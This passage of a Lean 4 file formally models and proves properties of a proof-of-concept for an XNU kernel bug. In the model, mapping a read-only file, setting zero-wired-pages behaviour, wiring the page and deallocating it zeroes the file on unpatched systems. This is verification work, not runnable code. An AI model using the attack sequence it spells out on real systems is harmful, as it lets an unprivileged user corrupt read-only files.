    ((exploit_vm_behavior P path (Run.start w)).1 = EXPLOIT_SUCCESS ∨
        (exploit_vm_behavior P path (Run.start w)).1 = EXPLOIT_FAILED) ∧
      (∀ st ∈ failed_stages (exploit_vm_behavior P path (Run.start w)).2.trace,
        (exploit_vm_behavior P path (Run.start w)).1 = EXPLOIT_FAILED ∧
          diagnosed (exploit_vm_behavior P path (Run.start w)).2.trace = [st]) ∧
      (∀ st ∈ diagnosed (exploit_vm_behavior P path (Run.start w)).2.trace,
        (exploit_vm_behavior P path (Run.start w)).1 = EXPLOIT_FAILED ∧
          diagnosed (exploit_vm_behavior P path (Run.start w)).2.trace = [st]) ∧
      (Event.printf (Msg.verify_result false) ∈
          (exploit_vm_behavior P path (Run.start w)).2.trace →
        (exploit_vm_behavior P path (Run.start w)).1 = EXPLOIT_FAILED ∧
          diagnosed (exploit_vm_behavior P path (Run.start w)).2.trace = []) := by
  obtain ⟨evs, hs, ht⟩ := exploit_vm_behavior_shape P path (Run.start w)
  rw [ht]
  generalize (exploit_vm_behavior P path (Run.start w)).1 = r at hs
  cases hs <;>
    simp_all [failed_stages, diagnosed, Msg.failing_stage, Event.failed, Event.stage,
      events_to_deallocate, events_to_behavior, Run.start, EXPLOIT_SUCCESS, EXPLOIT_FAILED,
      KERN_SUCCESS]

theorem map_file_page_ro_fst (P : Platform W) (path : String) (s : Run W) :
    (map_file_page_ro P path s).1 = map_result P path s.world := by
  simp only [map_result, map_file_page_ro, invoke, Run.printf]
  split_ifs <;> rfl

theorem map_file_page_ro_world (P : Platform W) (path : String) (s : Run W) :
    (map_file_page_ro P path s).2.world = map_world P path s.world := by
  simp only [map_world, map_file_page_ro, invoke, Run.printf]
  split_ifs <;> rfl

theorem exploit_vm_behavior_success_iff (P : Platform W) (path : String) (s : Run W) :
    (exploit_vm_behavior P path s).1 = EXPLOIT_SUCCESS ↔
      map_result P path s.world ≠ MAP_FAILED ∧
      (behavior_result P path s.world).1 = KERN_SUCCESS ∧
      (lock_result P path s.world).1 = 0 ∧
      (deallocate_result P path s.world).1 = KERN_SUCCESS ∧
      verdict P path s.world = true := by
  simp only [exploit_vm_behavior, invoke, Run.returned, Run.printf, map_file_page_ro_fst,
    map_file_page_ro_world, verify_changes_fst]
  simp only [verdict, deallocate_result, lock_result, behavior_result, snapshot]
  split_ifs <;> simp_all [EXPLOIT_SUCCESS, EXPLOIT_FAILED]

/-! ## Runs on the concrete platform -/

theorem le_round_up (len page_size : Nat) : len ≤ round_up len page_size := by
  unfold round_up
  split_ifs with h
  · exact le_refl len
  · have h1 := Nat.div_add_mod (len + page_size - 1) page_size
    have h2 := Nat.mod_lt (len + page_size - 1) (Nat.pos_of_ne_zero h)
    rw [Nat.mul_comm] at h1
    omega

theorem mapped_entry_covers (page_size : Nat) (path : String) (z : Bool) (n i : Nat)
    (hi : i < 128) : (mapped_entry page_size path z n).covers (USER_BASE + i) = true := by
  have h := le_round_up PAGE_SIZE page_size
  simp only [PAGE_SIZE] at h
  simp only [VMEntry.covers, mapped_entry, PAGE_SIZE, Bool.and_eq_true, decide_eq_true_eq]
  omega

theorem mapped_entry_covers_base (page_size : Nat) (path : String) (z : Bool) (n : Nat) :
    (mapped_entry page_size path z n).covers USER_BASE = true :=
  mapped_entry_covers page_size path z n 0 (by decide)

theorem xnu_map_boot (page_size : Nat) (patched : Bool) (uid : Nat)
    (fs : List (String × FileNode)) (path : String) (f : FileNode)
    (hf : fs_lookup fs path = some f) (hr : can_read uid f = true)
    (hspace : ¬ MAP_FAILED ≤ USER_BASE + round_up PAGE_SIZE page_size) :
    map_result (xnu page_size patched) path (World.boot uid fs) = USER_BASE ∧
      map_world (xnu page_size patched) path (World.boot uid fs) =
        booted uid fs [mapped_entry page_size path false 0] := by
  have h1 : ¬ USER_BASE = MAP_FAILED := by decide
  simp only [PAGE_SIZE] at hspace
  simp [map_result, map_world, map_file_page_ro, invoke, Run.printf, xnu, xnu_open, xnu_mmap,
    xnu_close, World.boot, booted, hf, open_permitted, O_RDONLY, hr, next_fd, fd_lookup,
    fd_remove, fresh_addr, hspace, PAGE_SIZE, PROT_READ, PROT_WRITE, MAP_FILE, MAP_SHARED,
    mapped_entry, h1]

theorem xnu_vm_behavior_set_head (w : World) (e : VMEntry) (rest : List VMEntry)
    (addr size : Nat) (hw : w.vm_map = e :: rest) (hc : e.covers addr = true) :
    xnu_vm_behavior_set addr size VM_BEHAVIOR_ZERO_WIRED_PAGES w =
      (KERN_SUCCESS,
        { uid := w.uid, cwd := w.cwd, fs := w.fs, fds := w.fds, streams := w.streams,
          vm_map := VMEntry.mk e.start e.size e.path e.offset e.prot true e.wired_count :: rest }) := by
  simp only [xnu_vm_behavior_set, hw, vm_lookup, vm_set, hc, if_true]

theorem xnu_mlock_head (w : World) (e : VMEntry) (rest : List VMEntry)
    (addr len : Nat) (hw : w.vm_map = e :: rest) (hc : e.covers addr = true) :
    xnu_mlock addr len w =
      (0,
        { uid := w.uid, cwd := w.cwd, fs := w.fs, fds := w.fds, streams := w.streams,
          vm_map :=
            VMEntry.mk e.start e.size e.path e.offset e.prot e.zero_wired_pages
              (e.wired_count + 1) :: rest }) := by
  simp only [xnu_mlock, hw, vm_lookup, vm_set, hc, if_true]

theorem xnu_vm_deallocate_head (patched : Bool) (w : World) (e : VMEntry) (rest : List VMEntry)
    (f : FileNode) (addr size : Nat) (hw : w.vm_map = e :: rest) (hc : e.covers addr = true)
    (hf : fs_lookup w.fs e.path = some f) (hwire : 0 < e.wired_count)
    (hflag : e.zero_wired_pages = true) :
    xnu_vm_deallocate patched addr size w =
      (KERN_SUCCESS,
        { uid := w.uid, cwd := w.cwd,
          fs := if patched = true then w.fs
            else fs_set w.fs e.path
              { data := zero_range f.data e.offset e.size, mode := f.mode, owner := f.owner },
          fds := w.fds, streams := w.streams, vm_map := rest }) := by
  cases patched <;>
    simp [xnu_vm_deallocate, hw, vm_lookup, vm_remove, hc, hf, hwire, hflag]

theorem xnu_load_head (w : World) (e : VMEntry) (rest : List VMEntry) (f : FileNode) (a : Nat)
    (hw : w.vm_map = e :: rest) (hc : e.covers a = true)
    (hf : fs_lookup w.fs e.path = some f) :
    xnu_load a w = f.data.getD (e.offset + (a - e.start)) 0 := by
  simp only [xnu_load, hw, vm_lookup, hc, if_true, hf]

theorem xnu_snapshot_boot (page_size : Nat) (patched : Bool) (uid : Nat)
    (fs : List (String × FileNode)) (path : String) (f : FileNode)
    (hf : fs_lookup fs path = some f) (hr : can_read uid f = true)
    (hspace : ¬ MAP_FAILED ≤ USER_BASE + round_up PAGE_SIZE page_size) (i : Nat) (hi : i < 128) :
    (snapshot (xnu page_size patched) path (World.boot uid fs)).getD i 0 = f.data.getD i 0 := by
  obtain ⟨h1, h2⟩ := xnu_map_boot page_size patched uid fs path f hf hr hspace
  simp only [snapshot, h1, h2, memcpy_from]
  rw [List.getD_eq_getElem?_getD, List.getElem?_map, List.getElem?_range hi]
  have h := xnu_load_head (booted uid fs [mapped_entry page_size path false 0])
    (mapped_entry page_size path false 0) [] f (USER_BASE + i) rfl
    (mapped_entry_covers page_size path false 0 i hi) hf
  simp only [Option.map_some', Option.getD_some]
  exact h.trans (by simp [mapped_entry])

theorem xnu_lock_boot (page_size : Nat) (patched : Bool) (uid : Nat)
    (fs : List (String × FileNode)) (path : String) (f : FileNode)
    (hf : fs_lookup fs path = some f) (hr : can_read uid f = true)
    (hspace : ¬ MAP_FAILED ≤ USER_BASE + round_up PAGE_SIZE page_size) :
    behavior_result (xnu page_size patched) path (World.boot uid fs) =
        (KERN_SUCCESS, booted uid fs [mapped_entry page_size path true 0]) ∧
      lock_result (xnu page_size patched) path (World.boot uid fs) =
        (0, booted uid fs [mapped_entry page_size path true 1]) := by
  obtain ⟨h1, h2⟩ := xnu_map_boot page_size patched uid fs path f hf hr hspace
  have hb : behavior_result (xnu page_size patched) path (World.boot uid fs) =
      (KERN_SUCCESS, booted uid fs [mapped_entry page_size path true 0]) := by
    simp only [behavior_result, h1, h2]
    exact xnu_vm_behavior_set_head (booted uid fs [mapped_entry page_size path false 0])
      (mapped_entry page_size path false 0) [] USER_BASE PAGE_SIZE rfl
      (mapped_entry_covers_base page_size path false 0)
  refine ⟨hb, ?_⟩
  simp only [lock_result, h1, hb]
  exact xnu_mlock_head (booted uid fs [mapped_entry page_size path true 0])
    (mapped_entry page_size path true 0) [] USER_BASE PAGE_SIZE rfl
    (mapped_entry_covers_base page_size path true 0)

theorem xnu_deallocate_boot (page_size : Nat) (patched : Bool) (uid : Nat)
    (fs : List (String × FileNode)) (path : String) (f : FileNode)
    (hf : fs_lookup fs path = some f) (hr : can_read uid f = true)
    (hspace : ¬ MAP_FAILED ≤ USER_BASE + round_up PAGE_SIZE page_size) :
    deallocate_result (xnu page_size patched) path (World.boot uid fs) =
      (KERN_SUCCESS,
        World.boot uid
          (if patched = true then fs
            else fs_set fs path
              { data := zero_range f.data 0 (round_up PAGE_SIZE page_size), mode := f.mode,
                owner := f.owner })) := by
  obtain ⟨h1, h2⟩ := xnu_map_boot page_size patched uid fs path f hf hr hspace
  obtain ⟨_, h3⟩ := xnu_lock_boot page_size patched uid fs path f hf hr hspace
  simp only [deallocate_result, h1, h3]
  exact xnu_vm_deallocate_head patched (booted uid fs [mapped_entry page_size path true 1])
    (mapped_entry page_size path true 1) [] f USER_BASE PAGE_SIZE rfl
    (mapped_entry_covers_base page_size path true 1) hf Nat.zero_lt_one rfl

theorem round_up_le (len page_size : Nat) : round_up len page_size ≤ len + page_size := by
  unfold round_up
  split_ifs with h
  · omega
  · have h1 := Nat.div_mul_le_self (len + page_size - 1) page_size
    omega

theorem fs_lookup_fs_set (fs : List (String × FileNode)) (path : String) (f g : FileNode)
    (h : fs_lookup fs path = some f) : fs_lookup (fs_set fs path g) path = some g := by
  induction fs with
  | nil => simp [fs_lookup] at h
  | cons hd tl ih =>
    obtain ⟨p, x⟩ := hd
    by_cases hp : p = path
    · simp [fs_lookup, fs_set, hp]
    · simp only [fs_lookup, hp, if_false] at h
      simp [fs_lookup, fs_set, hp, ih h]

theorem zero_range_getElem? (data : List Nat) (n i : Nat) (hi : i < data.length) (hn : i < n) :
    (zero_range data 0 n)[i]? = some 0 := by
  induction data generalizing n i with
  | nil => simp at hi
  | cons b rest ih =>
    cases n with
    | zero => omega
    | succ n =>
      cases i with
      | zero => simp [zero_range]
      | succ i =>
        simp only [zero_range, List.getElem?_cons_succ]
        exact ih n i (by simpa using hi) (by omega)

theorem zero_range_length (data : List Nat) (off n : Nat) :
    (zero_range data off n).length = data.length := by
  induction data generalizing off n with
  | nil => simp [zero_range]
  | cons b rest ih =>
    cases off with
    | zero =>
      cases n with
      | zero => simp [zero_range]
      | succ n => simp [zero_range, ih]
    | succ off => simp [zero_range, ih]

/-- The verdict of the verifier on the concrete platform, run by a process that
has nothing open, on a file it may read. -/
theorem xnu_verify_boot (page_size : Nat) (patched : Bool) (uid : Nat)
    (fs : List (String × FileNode)) (path : String) (g : FileNode)
    (original_content : Nat → Nat) (content_size : Nat)
    (hg : fs_lookup fs path = some g) (hr : can_read uid g = true) :
    verify_value (xnu page_size patched) path original_content content_size
        (World.boot uid fs) = true ↔
      ∃ i, i < min (min 128 g.data.length) content_size ∧ g.data[i]? = some 0 ∧
        original_content i ≠ 0 := by
  have h_open : ((xnu page_size patched).open_ path O_RDONLY (World.boot uid fs)).1 ≠ -1 := by
    simp [xnu, xnu_open, World.boot, hg, open_permitted, O_RDONLY, hr, next_fd]
  have h_read : ((xnu page_size patched).read
      ((xnu page_size patched).open_ path O_RDONLY (World.boot uid fs)).1 128
      ((xnu page_size patched).open_ path O_RDONLY (World.boot uid fs)).2).1 =
      some (g.data.take 128) := by
    simp [xnu, xnu_open, xnu_read, World.boot, hg, open_permitted, O_RDONLY, hr, next_fd,
      fd_lookup]
  rw [verify_value, verify_changes_fst_of_read _ path original_content content_size
    { world := World.boot uid fs, trace := [] } (g.data.take 128) h_open h_read]
  by_cases hz : (read_into (List.replicate 128 0) 128 (some (List.take 128 g.data))).1 ≤ 0
  · rw [if_pos hz]
    rw [read_into_some_fst] at hz
    have hlen : min 128 (List.take 128 g.data).length = 0 := by omega
    simp only [List.length_take] at hlen
    simp only [Bool.false_eq_true, false_iff, not_exists]
    intro i hi
    omega
  · rw [if_neg hz, verify_scan_after_read]
    simp only [List.length_take]
    constructor
    · rintro ⟨i, h1, h2, h3⟩
      refine ⟨i, by omega, ?_, h3⟩
      rw [List.getElem?_take] at h2
      simpa [show i < 128 by omega] using h2
    · rintro ⟨i, h1, h2, h3⟩
      refine ⟨i, by omega, ?_, h3⟩
      rw [List.getElem?_take]
      simpa [show i < 128 by omega] using h2

set_option maxRecDepth 100000 in
/-- C3, counterexample: on the unpatched platform, for a readable file whose first
128 bytes are already zero, every memory-manager call succeeds and the page of
the file is zeroed (its byte 128 goes from 65 to 0), yet the run returns
EXPLOIT_FAILED. -/
theorem zero_prefix_not_reported :
    (exploit_vm_behavior (xnu 4096 false) "zeros.bin"
        (Run.start (World.boot 501
          [("zeros.bin", { data := List.replicate 128 0 ++ [65], mode := 292, owner := 0 })]))).1 =
        EXPLOIT_FAILED ∧
      stage_succeeded Stage.deallocate (exploit_vm_behavior (xnu 4096 false) "zeros.bin"
        (Run.start (World.boot 501
          [("zeros.bin", { data := List.replicate 128 0 ++ [65], mode := 292, owner := 0 })]))).2.trace =
        true ∧
      fs_lookup (exploit_vm_behavior (xnu 4096 false) "zeros.bin"
        (Run.start (World.boot 501
          [("zeros.bin", { data := List.replicate 128 0 ++ [65], mode := 292, owner := 0 })]))).2.world.fs
        "zeros.bin" = some { data := List.replicate 129 0, mode := 292, owner := 0 } := by
  decide

/-- C3, amended: on the unpatched concrete platform (pages of at most 65536 bytes),
for every readable plain file with a non-zero byte among its first 128 bytes
(files shorter than 128 bytes included), a run of `exploit_vm_behavior` from a
fresh process returns EXPLOIT_SUCCESS. -/
theorem exploit_succeeds_on_nonzero_prefix (page_size uid : Nat)
    (fs : List (String × FileNode)) (path : String) (f : FileNode)
    (h_file : fs_lookup fs path = some f) (h_readable : can_read uid f = true)
    (h_page : page_size ≤ 65536)
    (h_nonzero : ∃ i b, i < 128 ∧ f.data[i]? = some b ∧ b ≠ 0) :
    (exploit_vm_behavior (xnu page_size false) path (Run.start (World.boot uid fs))).1 =
      EXPLOIT_SUCCESS := by
  have hspace : ¬ MAP_FAILED ≤ USER_BASE + round_up PAGE_SIZE page_size := by
    have h1 := round_up_le PAGE_SIZE page_size
    simp only [PAGE_SIZE, MAP_FAILED, USER_BASE] at h1 ⊢
    omega
  obtain ⟨hm, _⟩ := xnu_map_boot page_size false uid fs path f h_file h_readable hspace
  obtain ⟨hb, hl⟩ := xnu_lock_boot page_size false uid fs path f h_file h_readable hspace
  have hd := xnu_deallocate_boot page_size false uid fs path f h_file h_readable hspace
  rw [exploit_vm_behavior_success_iff]
  simp only [Run.start]
  refine ⟨?_, by rw [hb], by rw [hl], by rw [hd], ?_⟩
  · rw [hm]
    decide
  · rw [verdict, hd]
    simp only [Bool.false_eq_true, if_false]
    rw [xnu_verify_boot page_size false uid _ path
      { data := zero_range f.data 0 (round_up PAGE_SIZE page_size), mode := f.mode,
        owner := f.owner } _ 128 (fs_lookup_fs_set fs path f _ h_file)
      (by simpa [can_read] using h_readable)]
    obtain ⟨i, b, hi, hb', hne⟩ := h_nonzero
    have hlen : i < f.data.length := by
      by_contra hcon
      rw [List.getElem?_eq_none (by omega)] at hb'
      exact Option.noConfusion hb'
    have hru := le_round_up PAGE_SIZE page_size
    simp only [PAGE_SIZE] at hru
    refine ⟨i, ?_, ?_, ?_⟩
    · simp only [zero_range_length]
      omega
    · exact zero_range_getElem? f.data _ i hlen (by simp only [PAGE_SIZE]; omega)
    · rw [xnu_snapshot_boot page_size false uid fs path f h_file h_readable hspace i hi]
      simpa [List.getD_eq_getElem?_getD, hb'] using hne

/-- Witness for C3 as amended: a two-byte file AB on 16384-byte pages. -/
theorem exploit_succeeds_on_nonzero_prefix_witness :
    (exploit_vm_behavior (xnu 16384 false) "AB.txt"
        (Run.start (World.boot 501
          [("AB.txt", { data := [65, 66], mode := 292, owner := 0 })]))).1 = EXPLOIT_SUCCESS :=
  exploit_succeeds_on_nonzero_prefix 16384 501
    [("AB.txt", { data := [65, 66], mode := 292, owner := 0 })] "AB.txt"
    { data := [65, 66], mode := 292, owner := 0 } (by decide) (by decide) (by decide)
    ⟨0, 65, by decide, by decide, by decide⟩

/-- C7: on the concrete platform, when the target path names no file,
`map_file_page_ro` returns MAP_FAILED, `exploit_vm_behavior` returns
EXPLOIT_FAILED, the exit status of `main` is not 0, the whole trace of `main`
is the failed read-only open with the mapping diagnostic (no set-behavior,
lock, deallocate or verify call), and the platform state, the file system
included, is what it was. -/
theorem missing_target_fails_at_mapping (page_size : Nat) (patched : Bool) (w : World)
    (prog path : String) (rest : List String) (h_missing : fs_lookup w.fs path = none) :
    (map_file_page_ro (xnu page_size patched) path (Run.start w)).1 = MAP_FAILED ∧
      (exploit_vm_behavior (xnu page_size patched) path (Run.start w)).1 = EXPLOIT_FAILED ∧
      exit_status (main (xnu page_size patched) (prog :: path :: rest) (Run.start w)).1 ≠ 0 ∧
      (main (xnu page_size patched) (prog :: path :: rest) (Run.start w)).2.trace =
        [Event.printf Msg.banner, Event.printf Msg.exploit_start,
          Event.printf (Msg.exploit_target path),
          Event.call (Call.open_ path O_RDONLY) (-1),
          Event.printf Msg.map_open_failed,
          Event.call (Call.map_file_page_ro path) MAP_FAILED] ∧
      diagnosed (main (xnu page_size patched) (prog :: path :: rest) (Run.start w)).2.trace =
        [Stage.map] ∧
      stages (main (xnu page_size patched) (prog :: path :: rest) (Run.start w)).2.trace =
        [Stage.map] ∧
      (main (xnu page_size patched) (prog :: path :: rest) (Run.start w)).2.world = w := by
  have hm : map_file_page_ro (xnu page_size patched) path (Run.start w) =
      (MAP_FAILED, { world := w, trace := [Event.call (Call.open_ path O_RDONLY) (-1),
        Event.printf Msg.map_open_failed] }) := by
    simp [map_file_page_ro, invoke, Run.printf, Run.start, xnu, xnu_open, h_missing]
  have he : exploit_vm_behavior (xnu page_size patched) path (Run.start w) =
      (EXPLOIT_FAILED, { world := w, trace := [Event.printf Msg.exploit_start,
        Event.printf (Msg.exploit_target path), Event.call (Call.open_ path O_RDONLY) (-1),
        Event.printf Msg.map_open_failed,
        Event.call (Call.map_file_page_ro path) MAP_FAILED] }) := by
    simp [exploit_vm_behavior, map_file_page_ro, invoke, Run.printf, Run.returned, Run.start,
      xnu, xnu_open, h_missing]
  have hmain : main (xnu page_size patched) (prog :: path :: rest) (Run.start w) =
      (EXPLOIT_FAILED, { world := w, trace := [Event.printf Msg.banner,
        Event.printf Msg.exploit_start,
        Event.printf (Msg.exploit_target path), Event.call (Call.open_ path O_RDONLY) (-1),
        Event.printf Msg.map_open_failed,
        Event.call (Call.map_file_page_ro path) MAP_FAILED] }) := by
    simp [main, exploit_vm_behavior, map_file_page_ro, invoke, Run.printf, Run.returned,
      Run.start, xnu, xnu_open, h_missing]
  rw [hm, he, hmain]
  refine ⟨rfl, rfl, by simp [exit_status, EXPLOIT_FAILED], rfl, ?_, ?_, rfl⟩
  · simp [diagnosed, Msg.failing_stage]
  · simp [stages, Event.stage]

/-- Witness for C7: a file system that holds another file only. -/
theorem missing_target_fails_at_mapping_witness :
    (main (xnu 4096 false) ["poc", "missing.txt"] (Run.start (World.boot 501
        [("AAAAs.txt", { data := [65, 65, 65, 65], mode := 292, owner := 0 })]))).2.world =
      World.boot 501 [("AAAAs.txt", { data := [65, 65, 65, 65], mode := 292, owner := 0 })] :=
  (missing_target_fails_at_mapping 4096 false
    (World.boot 501 [("AAAAs.txt", { data := [65, 65, 65, 65], mode := 292, owner := 0 })])
    "poc" "missing.txt" [] (by decide)).2.2.2.2.2.2

theorem next_fd_ne (fds : List OpenFile) : next_fd fds ≠ -1 := by
  have h : 3 ≤ next_fd fds := by
    induction fds with
    | nil => simp [next_fd]
    | cons e rest ih =>
      simp only [next_fd]
      omega
  omega

theorem xnu_verify_changes_world (page_size : Nat) (patched : Bool) (path : String)
    (original_content : Nat → Nat) (content_size : Nat) (s : Run World) :
    (verify_changes (xnu page_size patched) path original_content content_size s).2.world =
      s.world := by
  obtain ⟨⟨uid, cwd, fs, fds, streams, vm_map⟩, tr⟩ := s
  cases hf : fs_lookup fs path with
  | none => simp [verify_changes, invoke, Run.printf, xnu, xnu_open, hf]
  | some f =>
    cases hp : open_permitted uid f 0 with
    | false => simp [verify_changes, invoke, Run.printf, xnu, xnu_open, hf, hp, O_RDONLY]
    | true =>
      have h3 := next_fd_ne fds
      simp only [verify_changes, invoke, Run.printf, xnu, xnu_open, O_RDONLY, hf, hp, if_true, h3,
        if_false, xnu_read, fd_lookup, Nat.zero_mod, Nat.zero_ne_one, hf, xnu_close, fd_set,
        fd_remove]
      split_ifs <;> rfl

/-- C9: on the concrete platform `verify_changes` is a pure observation: it leaves
the platform state as it found it (the content, mode and owner of every file
included), so a second call right after the first, with the same snapshot,
returns what the first returned. -/
theorem verify_changes_is_observation (page_size : Nat) (patched : Bool) (path : String)
    (original_content : Nat → Nat) (content_size : Nat) (s : Run World) :
    (verify_changes (xnu page_size patched) path original_content content_size s).2.world =
        s.world ∧
      (verify_changes (xnu page_size patched) path original_content content_size s).2.world.fs =
        s.world.fs ∧
      (verify_changes (xnu page_size patched) path original_content content_size
        (verify_changes (xnu page_size patched) path original_content content_size s).2).1 =
      (verify_changes (xnu page_size patched) path original_content content_size s).1 := by
  have h := xnu_verify_changes_world page_size patched path original_content content_size s
  refine ⟨h, by rw [h], ?_⟩
  rw [verify_changes_fst, verify_changes_fst, h]

end ZeroWiredPages
